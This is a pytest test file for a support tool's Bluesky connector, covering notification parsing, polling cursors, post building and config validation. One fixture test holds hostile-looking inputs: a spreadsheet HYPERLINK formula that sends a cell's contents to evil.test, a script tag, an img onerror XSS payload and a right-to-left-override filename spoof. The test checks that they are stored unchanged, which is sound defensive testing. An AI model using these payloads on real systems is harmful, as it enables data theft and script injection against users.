"""Parsing recorded ``app.bsky`` payloads and building what is posted (no network)."""

import copy
import re
from datetime import UTC, datetime
from typing import Any

import pytest

from fairdesk.connectors.base import PermanentSendError
from fairdesk.connectors.bluesky import adapter, graphemes
from fairdesk.connectors.bluesky.adapter import Mark, PollState
from fairdesk.connectors.bluesky.connector import BlueskyConfig
from fairdesk.connectors.bluesky.standin import TID
from fairdesk.connectors.bluesky.tests.conftest import ACME_DID, DANA, fixture_json
from fairdesk.connectors.config import ConfigError, validate_config
from fairdesk.connectors.payloads import PayloadError

BRAND = "@acmesupport.bsky.social"


def parse(name: str) -> list[dict[str, Any]]:
    payload = fixture_json(name)
    return adapter.parse(payload["notifications"], brand_did=ACME_DID, brand_handle=BRAND)


def at(value: str) -> datetime:
    return datetime.fromisoformat(value)


def test_mention_is_a_public_inbound_message() -> None:
    assert parse("notifications_mention.json") == [
        {
            "channel": "bluesky",
            "external_id": f"at://{DANA['did']}/app.bsky.feed.post/3m4ufxkq2ws2c",
            "direction": "inbound",
            "visibility": "public",
            "created_at": "2026-11-02T09:14:00Z",
            "author": {
                "external_id": DANA["did"],
                "handle": "@dana.bsky.social",
                "display_name": "Dana Whitfield",
                "followers": None,
                "email": None,
                "phone": None,
            },
            "text": "@acmesupport.bsky.social my 3 year old dryer stopped heating again, "
            "order 55812. Can someone help?",
            "in_reply_to": None,
            "brand_handle": BRAND,
            "entitlement": None,
        }
    ]


def test_reply_answers_its_parent_not_its_root() -> None:
    [reply] = parse("notifications_reply.json")
    assert reply["external_id"] == f"at://{DANA['did']}/app.bsky.feed.post/3m4ugbnw3gc2x"
    assert reply["in_reply_to"] == f"at://{ACME_DID}/app.bsky.feed.post/3m4ug3vdd4k2p"
    assert reply["created_at"] == "2026-11-02T09:31:07.250000Z"
    assert reply["direction"] == "inbound"


def test_hostile_text_names_emoji_rtl_and_5kb_are_kept_exactly() -> None:
    payload = fixture_json("notifications_hostile.json")
    records = parse("notifications_hostile.json")
    assert [r["external_id"] for r in records] == [n["uri"] for n in payload["notifications"]]
    mallory, layla, omar = records
    assert mallory["text"] == payload["notifications"][0]["record"]["text"]
    assert mallory["text"].startswith('=HYPERLINK("http://evil.test/?"&A1,"refund")\r\n<script>')
    assert mallory["author"]["display_name"] == "<img src=x onerror=alert(1)>\r\nAdmin"
    assert (
        layla["text"]
        == "مرحبا @acmesupport.bsky.social طلبي لم يصل بعد 📦😡 \u202egnp.exe\u202c 🇪🇬"
    )
    assert layla["author"]["display_name"] == "ليلى \u202eأحمد\u202c 🌙"
    assert omar["author"]["display_name"] == "Omar 👨‍👩‍👧"
    assert len(omar["text"]) == 5120 and len(omar["text"].encode()) == 5414
    assert omar["text"] == payload["notifications"][2]["record"]["text"]
    assert omar["in_reply_to"] is None  # a quote points at a post; it does not answer it


def test_only_mentions_replies_and_quotes_are_read_and_a_malformed_one_is_skipped(
    caplog: pytest.LogCaptureFixture,
) -> None:
    records = parse("notifications_mixed.json")
    assert [r["external_id"] for r in records] == [
        "at://did:plc:eeux43uwnl55a3upbdcfewxc/app.bsky.feed.post/3m4ui23tdxk2s"
    ]
    assert "skipping malformed Bluesky notification" in caplog.text


def test_the_brands_own_post_is_outbound() -> None:
    payload = fixture_json("notifications_mention.json")
    payload["notifications"][0]["author"].update(
        did=ACME_DID, handle="acmesupport.bsky.social", displayName="Acme Support"
    )
    [record] = adapter.parse(payload["notifications"], brand_did=ACME_DID, brand_handle=None)
    assert (record["direction"], record["brand_handle"]) == ("outbound", BRAND)
    assert record["author"]["handle"] == BRAND


@pytest.mark.parametrize(
    ("created", "expected"),
    [
        ("2026-11-02T09:13:00.000Z", "2026-11-02T09:13:00Z"),  # a minute before indexing
        ("2020-01-01T00:00:00.000Z", "2026-11-02T09:14:00.412000Z"),  # back-dated
        ("2027-01-01T00:00:00.000Z", "2026-11-02T09:14:00.412000Z"),  # from the future
        ("yesterday", "2026-11-02T09:14:00.412000Z"),
        (None, "2026-11-02T09:14:00.412000Z"),
    ],
)
def test_created_at_is_the_authors_time_only_when_the_server_agrees(
    created: str | None, expected: str
) -> None:
    payload = fixture_json("notifications_mention.json")
    payload["notifications"][0]["record"]["createdAt"] = created
    [record] = adapter.parse(payload["notifications"], brand_did=ACME_DID, brand_handle=BRAND)
    assert record["created_at"] == expected


# -- the cursor -----------------------------------------------------------------------


def page(*items: tuple[str, str], cursor: str | None = "next") -> dict[str, Any]:
    """A listNotifications answer of mentions (uri, indexedAt), newest first."""
    template = fixture_json("notifications_mention.json")["notifications"][0]
    notifications = []
    for uri, indexed in items:
        notification = copy.deepcopy(template)
        notification.update(uri=uri, indexedAt=indexed)
        notification["record"]["createdAt"] = indexed
        notifications.append(notification)
    answer: dict[str, Any] = {"notifications": notifications}
    if cursor:
        answer["cursor"] = cursor
    return answer


def read(payload: dict[str, Any], state: PollState) -> adapter.PageResult:
    return adapter.read_page(payload, state, brand_did=ACME_DID, brand_handle=BRAND)


def test_first_poll_reads_the_newest_page_only() -> None:
    result = read(
        page(("at://p/3", "2026-11-02T09:03:00Z"), ("at://p/2", "2026-11-02T09:02:00Z")),
        PollState(),
    )
    assert [r["external_id"] for r in result.records] == ["at://p/3", "at://p/2"]
    assert result.more is False
    assert result.state.as_cursor() == {
        "seen": {"indexed_at": "2026-11-02T09:03:00+00:00", "uris": ["at://p/3"]}
    }


def test_an_all_new_page_keeps_the_mark_and_asks_for_the_older_page() -> None:
    seen = Mark(at("2026-11-02T09:01:00Z"), frozenset({"at://p/1"}))
    first = read(
        page(
            ("at://p/5", "2026-11-02T09:05:00Z"), ("at://p/4", "2026-11-02T09:04:00Z"), cursor="c4"
        ),
        PollState(seen=seen),
    )
    assert first.more is True
    assert first.state == PollState(
        seen=seen, page="c4", top=Mark(at("2026-11-02T09:05:00Z"), frozenset({"at://p/5"}))
    )
    assert PollState.from_cursor(first.state.as_cursor()) == first.state
    last = read(
        page(("at://p/3", "2026-11-02T09:03:00Z"), ("at://p/1", "2026-11-02T09:01:00Z")),
        first.state,
    )
    assert [r["external_id"] for r in last.records] == ["at://p/3"]
    assert last.state == PollState(seen=first.state.top)
    assert last.more is True  # once more from the newest page: what arrived meanwhile


def test_same_instant_overlap_is_left_out_and_remembered() -> None:
    instant = "2026-11-02T09:05:00Z"
    seen = Mark(at(instant), frozenset({"at://p/a"}))
    result = read(page(("at://p/b", instant), ("at://p/a", instant)), PollState(seen=seen))
    assert [r["external_id"] for r in result.records] == ["at://p/b"]
    assert result.more is False
    assert result.state.seen == Mark(at(instant), frozenset({"at://p/a", "at://p/b"}))


def test_an_empty_stream_changes_nothing() -> None:
    assert read({"notifications": []}, PollState()).state.as_cursor() == {}


@pytest.mark.parametrize("payload", [[], {"notifications": "nope"}, {"notifications": [1]}])
def test_a_malformed_answer_is_refused(payload: Any) -> None:
    with pytest.raises(PayloadError):
        read(payload, PollState())


@pytest.mark.parametrize(
    "cursor",
    [
        {"seen": "x"},
        {"seen": {"indexed_at": "soon", "uris": []}},
        {"seen": {"indexed_at": "2026-11-02T09:05:00Z", "uris": []}, "catchup": 5},
    ],
)
def test_an_unreadable_cursor_is_refused(cursor: dict[str, Any]) -> None:
    with pytest.raises(PayloadError):
        PollState.from_cursor(cursor)


# -- posting ----------------------------------------------------------------------------


def test_record_key_is_a_deterministic_tid_per_workspace_and_key() -> None:
    key = adapter.record_key(workspace_id=1, idempotency_key="k-1")
    assert key == adapter.record_key(workspace_id=1, idempotency_key="k-1")
    assert key != adapter.record_key(workspace_id=2, idempotency_key="k-1")
    assert key != adapter.record_key(workspace_id=1, idempotency_key="k-2")
    for n in range(200):
        tid = adapter.record_key(workspace_id=n, idempotency_key=f"key-{n}")
        assert TID.match(tid), tid  # the stand-in's check of the atproto TID syntax
        value = 0
        for char in tid:
            value = value * 32 + adapter.TID_ALPHABET.index(char)
        micros = value >> 10
        assert adapter.TID_EPOCH_US <= micros < adapter.TID_EPOCH_US + adapter.TID_SPAN_US
        assert datetime.fromtimestamp(micros / 1e6, tz=UTC) < datetime(2025, 4, 1, tzinfo=UTC)


def test_reply_to_a_reply_keeps_the_thread_root() -> None:
    posts = fixture_json("get_posts_reply.json")
    parent_uri = posts["posts"][0]["uri"]
    assert adapter.reply_ref(posts, parent_uri) == {
        "root": {
            "uri": f"at://{DANA['did']}/app.bsky.feed.post/3m4ufxkq2ws2c",
            "cid": "bafyreie5737gdxlw5i64vzichcalba3z2v5n6icifvx5xytvske7mr3hpm",
        },
        "parent": {
            "uri": parent_uri,
            "cid": "bafyreibrwvzqfbvr6oyqmnjgu7kzm5cjkuyxuoc5wnw3aie3cdmr4gkaxe",
        },
    }


def test_reply_to_a_top_level_post_uses_it_as_root() -> None:
    posts = fixture_json("get_posts_reply.json")
    del posts["posts"][0]["record"]["reply"]
    ref = adapter.reply_ref(posts, posts["posts"][0]["uri"])
    assert (
        ref["root"]
        == ref["parent"]
        == {
            "uri": posts["posts"][0]["uri"],
            "cid": posts["posts"][0]["cid"],
        }
    )


def test_a_parent_the_appview_does_not_return_cannot_be_answered() -> None:
    with pytest.raises(PermanentSendError, match="deleted or not visible"):
        adapter.reply_ref({"posts": []}, "at://did:plc:x/app.bsky.feed.post/3m4ugbnw3gc2x")


def test_post_record_shape() -> None:
    now = datetime(2026, 11, 2, 9, 40, 1, 123456, tzinfo=UTC)
    reply = {"root": {"uri": "at://r", "cid": "c1"}, "parent": {"uri": "at://p", "cid": "c2"}}
    assert adapter.post_record("Hi ^JC", reply=reply, now=now) == {
        "$type": "app.bsky.feed.post",
        "text": "Hi ^JC",
        "createdAt": "2026-11-02T09:40:01.123Z",
        "reply": reply,
    }


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("", 0),
        ("abc", 3),
        ("e\u0301", 1),
        ("\r\n", 1),
        ("👨‍👩‍👧", 1),
        ("👍🏽", 1),
        ("🇺🇸🇫🇷", 2),
        ("1️⃣", 1),
        ("한국어", 3),
        ("\u1100\u1161\u11a8", 1),
        ("❤️‍🔥", 1),
        ("שלום עולם", 9),
        ("🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", 1),
        ("नमस्ते", 4),  # without Unicode 15.1's conjunct rule: never fewer than Bluesky
    ],
)
def test_grapheme_count(text: str, count: int) -> None:
    assert graphemes.count(text) == count


def test_length_limits_count_graphemes_and_bytes_and_never_truncate() -> None:
    family = "👨‍👩‍👧"  # one grapheme, 18 bytes
    adapter.check_length("a" * 300, graphemes_max=300, bytes_max=3000, what="post")
    adapter.check_length(family * 166, graphemes_max=300, bytes_max=3000, what="post")
    with pytest.raises(PermanentSendError, match="at most 300 characters; this one has 301"):
        adapter.check_length("a" * 301, graphemes_max=300, bytes_max=3000, what="post")
    with pytest.raises(PermanentSendError, match="at most 3000 bytes; this one has 3006"):
        adapter.check_length(family * 167, graphemes_max=300, bytes_max=3000, what="post")


def test_parse_post_uri() -> None:
    did, rkey = adapter.parse_post_uri(f"at://{ACME_DID}/app.bsky.feed.post/3m4ug3vdd4k2p")
    assert (did, rkey) == (ACME_DID, "3m4ug3vdd4k2p")
    for bad in (
        "1849100000000000001",
        "at://x/app.bsky.feed.like/3m4u",
        "at://did:plc:x/app.bsky.feed.post/a b",
    ):
        with pytest.raises(PermanentSendError, match="not the at:// uri of a Bluesky post"):
            adapter.parse_post_uri(bad)


# -- configuration ------------------------------------------------------------------------


def test_config_defaults_and_normalises() -> None:
    config = validate_config("bluesky", {"did": ACME_DID, "handle": "@AcmeSupport.bsky.social"})
    assert config == {
        "service_url": "https://bsky.social",
        "handle": "acmesupport.bsky.social",
        "did": ACME_DID,
    }
    assert BlueskyConfig.model_validate(config).brand_handle == BRAND
    local = validate_config("bluesky", {"did": ACME_DID, "service_url": "http://127.0.0.1:2583/"})
    assert local["service_url"] == "http://127.0.0.1:2583"


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ({"did": ACME_DID, "service_url": "http://pds.example.com"}, "plain http only on loopback"),
        ({"did": ACME_DID, "service_url": "ftp://pds.example.com"}, "must be an https:// URL"),
        ({"did": ACME_DID, "service_url": "https://u:p@pds.example.com"}, "plain https:// URL"),
        ({"did": "plc:abc"}, "String should match pattern"),
        ({"did": ACME_DID, "handle": "<script>"}, "handle must look like"),
        ({"did": ACME_DID, "app_password": "x"}, "Extra inputs are not permitted"),
        ({}, "Field required"),
    ],
)
def test_bad_config_is_refused_with_a_clear_error(config: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError, match=re.escape(message)):
        validate_config("bluesky", config)
